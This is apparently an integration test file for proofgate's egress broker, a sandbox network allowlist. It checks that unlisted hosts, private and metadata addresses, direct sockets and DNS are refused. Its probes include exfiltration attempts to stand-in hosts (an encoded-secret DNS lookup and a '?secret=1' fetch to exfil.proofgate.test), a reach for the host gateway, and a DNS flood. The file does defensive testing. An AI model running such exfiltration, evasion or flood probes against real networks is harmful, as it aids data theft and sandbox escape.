"""The egress broker against a real daemon (SPEC §2 `egress`).

A `python3 -m http.server` in a clean-room container, on a network this module creates,
stands in for a package registry. The broker reaches it only through the test-only
overrides of proofgate's own environment (the broker's outside leg on that network, its
name mapped to its address, that one address exempt from the private-address rule).
Nothing here sends a packet anywhere but loopback and the networks created here: the
refusal of private, link-local and metadata addresses for real resolutions is tested at
the decision (tests/unit/test_egress.py).
"""

from __future__ import annotations

import dataclasses
import json
import logging
import os
import secrets
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import docker
import pytest

from gate.model import CheckResult, CheckSpec, Command, ImageRef, Limits, Phase
from gate.sandbox import envcache, labels
from gate.sandbox.docker import DockerSandbox
from gate.sandbox.egress import UNSAFE_ALLOW_NETS_ENV, UNSAFE_HOSTS_ENV, UNSAFE_NETWORK_ENV
from gate.util.journal import Journal
from tests.integration.test_sandbox import TREE, TreeFn, bridge_gateway, make_tree
from tests.provecli import cli_prove, config_yaml, pr_repo, receipt_predicate

pytestmark = pytest.mark.docker
__all__ = ["bridge_gateway"]  # a fixture shared with test_sandbox

REGISTRY = "registry.proofgate.test"
PRIVATE = "private.proofgate.test"  # on the allowlist, but resolves to a private address


@dataclass(frozen=True)
class Registry:
    network: str
    ip: str
    gateway: str


@pytest.fixture(scope="module")
def registry(docker_client: docker.DockerClient, cleanroom_image: str) -> Iterator[Registry]:
    name = f"proofgate-test-egress-{secrets.token_hex(4)}"
    network = docker_client.networks.create(name, driver="bridge", labels={"proofgate-test": "1"})
    server = None
    try:
        server = docker_client.containers.run(
            cleanroom_image,
            [
                "sh",
                "-c",
                "mkdir -p /srv/simple && echo hello-from-registry > /srv/hello.txt && "
                "cd /srv && exec python3 -m http.server 8000",
            ],
            detach=True,
            network=name,
            labels={"proofgate-test": "1"},
            user="0",
        )
        network.reload()
        server.reload()
        ip = server.attrs["NetworkSettings"]["Networks"][name]["IPAddress"]
        gateway = network.attrs["IPAM"]["Config"][0]["Gateway"]
        yield Registry(network=name, ip=ip, gateway=gateway)
    finally:
        if server is not None:
            server.remove(force=True)
        network.remove()


@pytest.fixture
def unsafe_env(monkeypatch: pytest.MonkeyPatch, registry: Registry) -> Registry:
    monkeypatch.setenv(UNSAFE_NETWORK_ENV, registry.network)
    monkeypatch.setenv(UNSAFE_ALLOW_NETS_ENV, f"{registry.ip}/32")
    monkeypatch.setenv(UNSAFE_HOSTS_ENV, f"{REGISTRY}={registry.ip},{PRIVATE}={registry.gateway}")
    return registry


_SANDBOX: list[DockerSandbox] = []


@pytest.fixture(scope="module")
def sandbox(docker_client: docker.DockerClient) -> DockerSandbox:
    _SANDBOX[:] = [DockerSandbox(docker_client, log_tail_bytes=8192)]
    return _SANDBOX[0]


@pytest.fixture(scope="module")
def image(sandbox: DockerSandbox) -> ImageRef:
    return sandbox.resolve_image("proofgate/cleanroom:latest")


def spec(
    *,
    setup: list[str],
    build: list[str] | None = None,
    test: list[str] | None = None,
    egress: tuple[str, ...] = (f"{REGISTRY}:8000", f"{PRIVATE}:8000"),
    timeout: int = 60,
) -> CheckSpec:
    phases = [(Phase.SETUP, tuple(Command.shell(s) for s in setup))]
    if build is not None:
        phases.append((Phase.BUILD, tuple(Command.shell(s) for s in build)))
    if test is not None:
        phases.append((Phase.TEST, tuple(Command.shell(s) for s in test)))
    limits = Limits(
        timeout=timeout,
        network="setup",
        egress=egress,
        memory=512 * 1024**2,
        cpus=1.0,
        pids=128,
    )
    return CheckSpec(name="egress", phases=tuple(phases), limits=limits)


def run(
    sandbox: DockerSandbox, image: ImageRef, check: CheckSpec, tree: TreeFn = TREE
) -> CheckResult:
    return sandbox.run_check(check, image, tree, Journal())


PROBE = r"""
import json, os, socket, urllib.request, urllib.error, http.client
out = {}
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return [r.status, r.read().decode()]
    except urllib.error.HTTPError as e:
        return [e.code, e.read().decode()]
    except OSError as e:
        return ["error", repr(e)]
out["allowed_http"] = fetch("http://REGISTRY:8000/hello.txt")
proxy = os.environ["HTTP_PROXY"].split("//")[1].split(":")[0]
c = http.client.HTTPConnection(proxy, 3128, timeout=10)
c.set_tunnel("REGISTRY", 8000)
try:
    c.request("GET", "/hello.txt")
    r = c.getresponse()
    out["allowed_connect"] = [r.status, r.read().decode()]
except OSError as e:
    out["allowed_connect"] = ["error", repr(e)]
out["not_listed"] = fetch("http://other.proofgate.test:8000/hello.txt")
out["ip_literal"] = fetch("http://REGISTRY_IP:8000/hello.txt")
out["private"] = fetch("http://PRIVATE:8000/hello.txt")
out["metadata"] = fetch("http://metadata.google.internal/computeMetadata/v1/")
def direct(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close(); return "connected"
    except OSError as e:
        return repr(e)
out["direct"] = direct("REGISTRY_IP", 8000)
def resolve(name):
    try:
        return repr(socket.getaddrinfo(name, 80))
    except OSError as e:
        return "refused: " + repr(e)
out["dns"] = resolve("c2VjcmV0.exfil.proofgate.test")
out["dns_registry"] = resolve("REGISTRY")
out["interfaces"] = sorted(os.listdir("/sys/class/net"))
out["ipv6_disabled"] = open("/proc/sys/net/ipv6/conf/all/disable_ipv6").read().strip()
print("PROBE " + json.dumps(out))
"""


def _probe(registry: Registry) -> str:
    script = (
        PROBE.replace("REGISTRY_IP", registry.ip)
        .replace("REGISTRY", REGISTRY)
        .replace("PRIVATE", PRIVATE)
    )
    return "python3 - <<'EOF'\n" + script + "\nEOF"


NO_NETWORK = (
    'test "$(ls /sys/class/net)" = lo && '
    "python3 -c \"import socket; socket.create_connection(('{ip}', 8000), timeout=3)\""
    " 2>/dev/null && echo REACHED || echo UNREACHABLE"
)


@pytest.fixture(scope="module")
def probed(
    sandbox: DockerSandbox, image: ImageRef, registry: Registry
) -> tuple[CheckResult, dict[str, object]]:
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(UNSAFE_NETWORK_ENV, registry.network)
        mp.setenv(UNSAFE_ALLOW_NETS_ENV, f"{registry.ip}/32")
        mp.setenv(UNSAFE_HOSTS_ENV, f"{REGISTRY}={registry.ip},{PRIVATE}={registry.gateway}")
        result = run(
            sandbox,
            image,
            spec(setup=[_probe(registry)], build=[NO_NETWORK.format(ip=registry.ip)]),
        )
    tail = result.phases[0].commands[0].log_tail
    line = next(line for line in tail.splitlines() if line.startswith("PROBE "))
    return result, json.loads(line[len("PROBE ") :])


def _attempts(result: CheckResult) -> list[dict[str, object]]:
    assert result.egress is not None
    return [a.to_dict() for a in result.egress.attempts]


def test_allowed_host_is_reached_through_the_broker(
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    result, out = probed
    assert out["allowed_http"] == [200, "hello-from-registry\n"]
    assert out["allowed_connect"] == [200, "hello-from-registry\n"]
    allowed = [a for a in _attempts(result) if a["allowed"]]
    assert {(a["kind"], a["host"], a["port"]) for a in allowed} == {
        ("http", REGISTRY, 8000),
        ("connect", REGISTRY, 8000),
    }
    assert all(int(str(a["bytes_down"])) > 0 and int(str(a["bytes_up"])) > 0 for a in allowed)


def _refused(result: CheckResult, host: str) -> dict[str, object]:
    (attempt,) = [a for a in _attempts(result) if a["host"] == host]
    assert attempt["allowed"] is False
    return attempt


def test_unlisted_host_is_refused_with_a_clear_message(
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    result, out = probed
    status, body = out["not_listed"]  # type: ignore[misc]
    assert status == 403
    assert "other.proofgate.test:8000" in body
    assert "not in the check's egress allowlist" in body
    assert _refused(result, "other.proofgate.test")["reason"] == "not-allowed"


def test_ip_literal_is_refused(
    probed: tuple[CheckResult, dict[str, object]], registry: Registry
) -> None:
    result, out = probed
    assert out["ip_literal"][0] == 403  # type: ignore[index]
    assert _refused(result, registry.ip)["reason"] == "not-allowed"


def test_allowed_name_resolving_to_a_private_address_is_refused(
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    result, out = probed
    status, body = out["private"]  # type: ignore[misc]
    assert status == 403
    assert "private address" in body
    assert _refused(result, PRIVATE)["reason"] == "private-address"


def test_metadata_name_is_refused(probed: tuple[CheckResult, dict[str, object]]) -> None:
    result, out = probed
    assert out["metadata"][0] == 403  # type: ignore[index]
    assert _refused(result, "metadata.google.internal")["reason"] == "metadata-name"


def test_direct_connection_bypassing_the_proxy_fails(
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    _, out = probed
    assert out["direct"] != "connected"
    assert out["interfaces"] == ["eth0", "lo"]
    # The host has an IPv6 link-local address on the internal network's bridge; the
    # clean room cannot use IPv6 at all (Docker disables it on a network without IPv6).
    assert out["ipv6_disabled"] == "1"


def test_dns_exfiltration_is_refused_and_logged(
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    result, out = probed
    assert str(out["dns"]).startswith("refused")
    assert str(out["dns_registry"]).startswith("refused")  # even allowed names: no DNS
    dns = [a for a in _attempts(result) if a["kind"] == "dns"]
    assert "c2VjcmV0.exfil.proofgate.test" in {a["host"] for a in dns}
    assert all(a["allowed"] is False and a["reason"] == "dns-refused" for a in dns)


def test_build_has_no_network(probed: tuple[CheckResult, dict[str, object]]) -> None:
    result, _ = probed
    build = result.phases[1].commands[0]
    assert build.exit_code == 0, build.log_tail
    assert build.log_tail.strip().endswith("UNREACHABLE")


def test_receipt_lists_attempts_with_a_digest(
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    result, _ = probed
    d = result.to_dict()
    summary = d["egress_summary"]
    assert isinstance(summary, dict)
    assert summary["complete"] is True
    assert summary["allowed"] == 2
    assert summary["refused"] >= 5
    assert len(str(summary["sha256"])) == 64
    assert d["egress"] == _attempts(result)


PROXY_VARIABLES = "env | grep -i _proxy= || echo NO-PROXY-VARIABLES"


def test_proxy_variables_reach_only_setup_commands(
    sandbox: DockerSandbox, image: ImageRef, unsafe_env: Registry
) -> None:
    # The test containers start from a commit of the setup/build container: the proxy
    # variables are per setup command, so the commit (and every test command) has none,
    # and the test phase has no network either.
    no_network = NO_NETWORK.format(ip=unsafe_env.ip)
    result = run(
        sandbox,
        image,
        spec(
            setup=[PROXY_VARIABLES],
            build=[PROXY_VARIABLES],
            test=[PROXY_VARIABLES, no_network, PROXY_VARIABLES],
        ),
    )
    (setup,), (build,), tests = (p.commands for p in result.phases)
    assert "HTTPS_PROXY=http://" in setup.log_tail, setup.log_tail
    for command in (build, tests[0], tests[2]):
        assert command.exit_code == 0, command.log_tail
        assert command.log_tail.strip() == "NO-PROXY-VARIABLES"
    assert tests[1].log_tail.strip().endswith("UNREACHABLE"), tests[1].log_tail


def test_the_action_ignores_the_unsafe_overrides(
    image: ImageRef, unsafe_env: Registry, caplog: pytest.LogCaptureFixture
) -> None:
    # A workflow's `env` reaches the Action's process: there the test-only overrides
    # must not let the broker reach a private address (the test registry's).
    from gate.faces.action import action_sandbox

    journal = Journal()
    fetch = (
        'python3 -c "import urllib.request; '
        f"urllib.request.urlopen('http://{unsafe_env.ip}:8000/hello.txt')\""
    )
    with caplog.at_level(logging.WARNING, logger="gate"):
        sandbox = action_sandbox()
    result = sandbox.run_check(
        spec(setup=[fetch], egress=(f"{unsafe_env.ip}:8000",)), image, TREE, journal
    )
    assert (
        "ignoring PROOFGATE_UNSAFE_EGRESS_ALLOW_NETS, PROOFGATE_UNSAFE_EGRESS_HOSTS, "
        "PROOFGATE_UNSAFE_EGRESS_NETWORK: test-only settings of the egress broker have no "
        "effect in the Action"
    ) in caplog.text
    assert not {UNSAFE_ALLOW_NETS_ENV, UNSAFE_HOSTS_ENV, UNSAFE_NETWORK_ENV} & set(os.environ)
    (setup,) = result.phases[0].commands
    assert setup.exit_code != 0
    assert f"proofgate egress refused {unsafe_env.ip}:8000 (private-address)" in setup.log_tail
    (attempt,) = _attempts(result)
    assert attempt["reason"] == "private-address"
    assert "egress-unsafe-overrides" not in [e["kind"] for e in journal.events()]


# --- nothing left behind ---------------------------------------------------------------


def _leftovers(client: docker.DockerClient) -> tuple[list[str], list[str]]:
    """This module's proofs' networks and brokers (its sandbox's proof id), never another
    process's on the same daemon."""
    mine = f"{labels.PROOF}={_SANDBOX[0].labels.proof}"
    networks = [n.name for n in client.networks.list(filters={"label": [mine]})]
    brokers = [
        c.id
        for c in client.containers.list(
            all=True, sparse=True, filters={"label": [mine, labels.ROLE]}
        )
    ]
    return [str(n) for n in networks], [str(c) for c in brokers]


def test_nothing_left_after_success(
    docker_client: docker.DockerClient,
    probed: tuple[CheckResult, dict[str, object]],
) -> None:
    assert _leftovers(docker_client) == ([], [])


def test_nothing_left_after_a_failed_setup(
    docker_client: docker.DockerClient,
    sandbox: DockerSandbox,
    image: ImageRef,
    unsafe_env: Registry,
) -> None:
    result = run(sandbox, image, spec(setup=["exit 3"], build=["true"]))
    assert result.phases[0].commands[0].exit_code == 3
    assert result.egress is not None
    assert _leftovers(docker_client) == ([], [])


def test_nothing_left_after_a_setup_timeout(
    docker_client: docker.DockerClient,
    sandbox: DockerSandbox,
    image: ImageRef,
    unsafe_env: Registry,
) -> None:
    result = run(sandbox, image, spec(setup=["sleep 600"], timeout=2))
    assert result.phases[0].commands[0].timed_out
    assert _leftovers(docker_client) == ([], [])


def test_nothing_left_after_ctrl_c(
    docker_client: docker.DockerClient,
    sandbox: DockerSandbox,
    image: ImageRef,
    unsafe_env: Registry,
) -> None:
    def interrupted() -> Iterator[bytes]:
        yield from make_tree({"a": b"1"})()
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run(sandbox, image, spec(setup=["true"]), tree=interrupted)
    assert _leftovers(docker_client) == ([], [])


def test_empty_allowlist_means_no_network(
    docker_client: docker.DockerClient, sandbox: DockerSandbox, image: ImageRef
) -> None:
    result = run(sandbox, image, spec(setup=['test "$(ls /sys/class/net)" = lo'], egress=()))
    assert result.phases[0].ok, result.phases[0].commands[0].log_tail
    assert result.egress is None
    assert _leftovers(docker_client) == ([], [])


# --- end to end: the receipt and the Markdown ---------------------------------------------


def test_prove_records_egress_in_receipt_and_markdown(
    tmp_path: Path, unsafe_env: Registry, capsys: pytest.CaptureFixture[str]
) -> None:

    fetch = (
        f"python3 -c \"import urllib.request; urllib.request.urlopen('http://{REGISTRY}:8000/hello.txt')"
        ".read(); print('fetched')\""
    )
    checks = (
        "  - name: deps\n    network: setup\n"
        f"    egress: ['{REGISTRY}:8000']\n"
        f"    setup: {json.dumps(fetch)}\n"
        "    test: 'true'\n"
    )
    _, path = pr_repo(tmp_path, {b".github/proofgate.yml": config_yaml(checks)}, {b"a": b"1"})
    assert cli_prove(path, tmp_path / "out") == 0
    assert "proofgate: UNSAFE: the egress broker may reach" in capsys.readouterr().err
    predicate = receipt_predicate(tmp_path / "out")
    kinds = [e["kind"] for e in predicate["journal"]["events"]]  # type: ignore[index]
    assert "egress-unsafe-overrides" in kinds  # the receipt says the broker was loosened
    (check,) = predicate["checks"]  # type: ignore[misc]
    (attempt,) = check["egress"]
    assert attempt["host"] == REGISTRY
    assert attempt["allowed"] is True
    assert check["egress_summary"]["attempts"] == 1
    markdown = (tmp_path / "out" / "receipt.md").read_text()
    assert "## Egress" in markdown
    assert f"`{REGISTRY}:8000`" in markdown


def test_refused_connection_fails_the_check_with_the_reason_in_its_log(
    tmp_path: Path, unsafe_env: Registry
) -> None:

    fetch = (
        'python3 -c "import urllib.request; '
        "urllib.request.urlopen('http://exfil.proofgate.test:8000/?secret=1')\""
    )
    checks = (
        "  - name: deps\n    network: setup\n"
        f"    egress: ['{REGISTRY}:8000']\n"
        f"    setup: {json.dumps(fetch)}\n"
        "    test: 'true'\n"
    )
    _, path = pr_repo(tmp_path, {b".github/proofgate.yml": config_yaml(checks)}, {b"a": b"1"})
    assert cli_prove(path, tmp_path / "out") == 10
    (check,) = receipt_predicate(tmp_path / "out")["checks"]  # type: ignore[misc]
    (attempt,) = check["egress"]
    assert attempt["reason"] == "not-allowed"
    tail = check["phases"][0]["commands"][0]["log_tail"]
    assert "proofgate egress refused exfil.proofgate.test:8000 (not-allowed)" in tail


GATEWAY_PROBE = r"""
import socket, struct, urllib.request, urllib.error
route = [l.split() for l in open("/proc/net/route").read().splitlines()[1:]]
gws = [socket.inet_ntoa(struct.pack("<I", int(r[2], 16))) for r in route if r[1] == "00000000"]
for host in gws + ["BRIDGE_GW"]:
    try:
        socket.create_connection((host, PORT), timeout=3).close()
        print("DIRECT-REACHED", host)
    except OSError as e:
        print("direct-refused", host, e)
try:
    urllib.request.urlopen("http://BRIDGE_GW:PORT/", timeout=10)
    print("PROXY-REACHED")
except urllib.error.HTTPError as e:
    print("proxy-refused", e.code)
"""


def test_pr_code_in_setup_cannot_reach_the_host(
    sandbox: DockerSandbox,
    image: ImageRef,
    unsafe_env: Registry,
    bridge_gateway: str,
) -> None:
    # docs/security.md's finding: repository code run by setup (a dynamic version) fetched
    # a host-only URL. The host listens on every interface; neither the internal network's
    # gateway (the host has no address there) nor the default bridge's is reachable, and
    # the broker refuses the host's address as an IP literal.
    from tests.integration.test_sandbox import _Listener

    listener = _Listener()
    try:
        script = GATEWAY_PROBE.replace("BRIDGE_GW", bridge_gateway).replace(
            "PORT", str(listener.port)
        )
        result = run(sandbox, image, spec(setup=["python3 - <<'EOF'\n" + script + "\nEOF"]))
        tail = result.phases[0].commands[0].log_tail
        assert "direct-refused" in tail, tail
        assert "REACHED" not in tail, tail
        assert "proxy-refused 403" in tail, tail
        assert listener.accepted == 0
    finally:
        listener.sock.close()


HOLD_OPEN = (
    'nohup python3 -c "import http.client, os, time; '
    "c = http.client.HTTPConnection(os.environ['HTTP_PROXY'].split('//')[1].split(':')[0], 3128); "
    f"c.set_tunnel('{REGISTRY}', 8000); c.connect(); c.sock.sendall(b'held'); time.sleep(300)\" "
    ">/dev/null 2>&1 & sleep 2"
)


def test_connection_still_open_after_setup_is_recorded(
    sandbox: DockerSandbox, image: ImageRef, unsafe_env: Registry
) -> None:
    # A process left running by setup keeps a tunnel open: the broker is stopped before
    # build, and the record still has the connection, with the bytes it carried so far.
    result = run(sandbox, image, spec(setup=[HOLD_OPEN], build=["true"]))
    assert result.phases[0].ok, result.phases[0].commands[0].log_tail
    (attempt,) = _attempts(result)
    assert attempt["kind"] == "connect"
    assert attempt["allowed"] is True
    assert attempt["open_at_stop"] is True
    assert attempt["bytes_up"] == 4


# --- a large log: bounded on both sides ----------------------------------------------------

FLOOD = r"""
import os, socket, struct, time
broker = os.environ["HTTP_PROXY"].split("//")[1].split(":")[0]
label = "a" * 60
name = b"".join(bytes([len(p)]) + p.encode() for p in [label] * 4 + ["example", "org"]) + b"\0"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
answered = 0
t0 = time.monotonic()
for i in range(40000):
    query = struct.pack(">HHHHHH", i & 0xFFFF, 0x100, 1, 0, 0, 0) + name + b"\0\1\0\1"
    s.sendto(query, (broker, 53))
    try:
        s.recv(4096)
        answered += 1
    except OSError:
        pass
print("FLOOD", answered, round(time.monotonic() - t0, 1))
"""


def test_dns_flood_is_egress_unrecorded_and_leaves_nothing(
    docker_client: docker.DockerClient, tmp_path: Path, unsafe_env: Registry
) -> None:
    """40,000 DNS queries with 245-character names: ~14 MB of log lines, past the
    broker's 8 MiB bound. The check ends INCONCLUSIVE `egress-unrecorded` (not every
    attempt is in the record) within seconds of setup, not after a client timeout, and
    neither the broker nor the internal network is left."""
    config = config_yaml(
        f"  - {{name: flood, network: setup, egress: ['{REGISTRY}:8000'], "
        "setup: 'python3 flood.py', test: 'true'}\n"
    )
    base = {b".github/proofgate.yml": config, b"flood.py": FLOOD.encode(), b"a": b"1"}
    _, path = pr_repo(tmp_path, base, {b"a": b"2"})
    t0 = time.monotonic()
    code = cli_prove(path, tmp_path / "out")
    elapsed = time.monotonic() - t0
    predicate = receipt_predicate(tmp_path / "out")
    assert code == 13, predicate["reasons"]
    assert [r["code"] for r in predicate["reasons"]] == ["egress-unrecorded"]  # type: ignore[index, union-attr]
    (check,) = predicate["checks"]  # type: ignore[misc]
    summary = check["egress_summary"]
    assert summary["complete"] is False
    assert summary["dropped"] > 0
    assert summary["attempts"] > 30000
    setup = check["phases"][0]["commands"][0]
    assert "FLOOD" in setup["log_tail"]
    assert elapsed < setup["duration_s"] + 40  # the read-back is bounded, not a timeout
    assert _leftovers_of(docker_client, predicate) == ([], [])


def _leftovers_of(
    client: docker.DockerClient, predicate: dict[str, object]
) -> tuple[list[str], list[str]]:
    """The networks and brokers of the proof the receipt's journal names."""
    events = predicate["journal"]["events"]  # type: ignore[index]
    (started,) = [e for e in events if e["kind"] == "run-started"]  # type: ignore[union-attr]
    mine = f"{labels.PROOF}={started['data']['proof']}"
    networks = [n.name for n in client.networks.list(filters={"label": [mine]})]
    brokers = [str(c.id) for c in client.containers.list(all=True, filters={"label": [mine]})]
    return networks, brokers


# --- the environment cache and the overrides ------------------------------------------------


def test_an_environment_made_under_other_overrides_is_a_miss(
    docker_client: docker.DockerClient,
    sandbox: DockerSandbox,
    image: ImageRef,
    unsafe_env: Registry,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Setup fetches from the test registry, reachable only through the test-only
    overrides. Cached under them, it is a hit under the same ones and a miss under others
    (here: the same network, without the name map): the key covers what the sandbox
    applied, so a later proof never replays an environment it could not have made."""
    before = {e.image for e in envcache.entries(docker_client.api)}
    fetch = f"python3 -c \"import urllib.request; urllib.request.urlopen('http://{REGISTRY}:8000/hello.txt')\""
    check = dataclasses.replace(
        spec(setup=[fetch], test=["true"], egress=(f"{REGISTRY}:8000",)),
        setup_inputs=("requirements.txt",),
    )
    tree = make_tree({"requirements.txt": b"overrides\n"})
    try:
        states = []
        for hosts in (True, True, False):
            if not hosts:
                monkeypatch.delenv(UNSAFE_HOSTS_ENV)
            journal = Journal()
            result = sandbox.run_check(check, image, tree, journal)
            assert result.environment is not None
            states.append(result.environment["cache"])
            kinds = [e["kind"] for e in journal.events()]
            assert "egress-unsafe-overrides" in kinds  # on the hit too
        assert states == ["miss", "hit", "miss"]
        # without the name map setup cannot reach the registry: nothing was cached
        assert not result.phases[0].ok
    finally:
        for entry in envcache.entries(docker_client.api):
            if entry.image not in before:
                docker_client.api.remove_image(entry.image, force=True)
